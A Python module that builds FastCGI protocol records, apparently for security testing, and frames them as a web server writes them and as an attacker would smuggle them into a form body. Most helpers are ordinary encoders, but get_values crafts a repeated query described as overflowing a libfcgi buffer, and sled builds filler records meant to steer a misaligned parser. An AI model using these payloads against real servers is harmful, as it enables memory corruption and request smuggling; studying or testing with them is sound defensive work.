"""FastCGI records (specification 1.0, section 3.3): as a web server writes them, and as an attacker would, into the body
of a form."""

import struct
from collections.abc import Mapping, Sequence
from typing import BinaryIO

BEGIN_REQUEST, ABORT_REQUEST, END_REQUEST, PARAMS, STDIN, STDOUT, GET_VALUES = 1, 2, 3, 4, 5, 6, 9
UNKNOWN_TYPE = 11
RESPONDER, KEEP_CONNECTION = 1, 1


def record(kind: int, content: bytes, request: int = 1) -> bytes:
    return struct.pack("!BBHHBx", 1, kind, request, len(content), 0) + content


def pair(name: str, value: str) -> bytes:
    """A name and its value, each with its length before (section 3.4)."""
    encoded = [name.encode(), value.encode()]
    return b"".join(struct.pack("!I", len(text) | 1 << 31) for text in encoded) + b"".join(encoded)


def whole_request(number: str, request_id: int = 1) -> bytes:
    """A request for a message to this number, as a web server would make it."""
    body = f"number={number}".encode()
    parameters = {
        "REQUEST_METHOD": "POST",
        "SCRIPT_NAME": "/register",
        "CONTENT_TYPE": "application/x-www-form-urlencoded",
        "CONTENT_LENGTH": str(len(body)),
        "REMOTE_ADDR": "203.0.113.66",
    }
    return request(parameters, body, number=request_id, flags=KEEP_CONNECTION)


def request(
    parameters: Mapping[str, str] | Sequence[tuple[str, str]], body: bytes, number: int = 1, flags: int = 0
) -> bytes:
    """A whole request.

    :param parameters: in their order; in a sequence a name may come more than once.
    :param number: its request id.
    """
    pairs = parameters.items() if isinstance(parameters, Mapping) else parameters
    return b"".join(
        [
            record(BEGIN_REQUEST, struct.pack("!HB5x", RESPONDER, flags), number),
            record(PARAMS, b"".join(pair(*each) for each in pairs), number),
            record(PARAMS, b"", number),
            record(STDIN, body, number) if body else b"",
            record(STDIN, b"", number),
        ]
    )


def output(answer: BinaryIO) -> bytes:
    """What an application answers, up to the end of the request."""
    content = b""
    while header := answer.read(8):
        _, kind, _, length, padding = struct.unpack("!BBHHBx", header)
        part = answer.read(length + padding)[:length]
        if kind == END_REQUEST:
            break
        if kind == STDOUT:
            content += part
    return content


def abort(request: int = 1) -> bytes:
    return record(ABORT_REQUEST, b"", request)


def get_values(repetitions: int) -> bytes:
    """A question for the same value many times over, which overflows a buffer of libfcgi's."""
    return record(GET_VALUES, pair("FCGI_MAX_CONNS", "") * repetitions, 0)


def sled(records: int) -> bytes:
    """Records that mean nothing, so that a reader who starts at any of them slides to what comes after."""
    return record(UNKNOWN_TYPE, b"", 0) * records
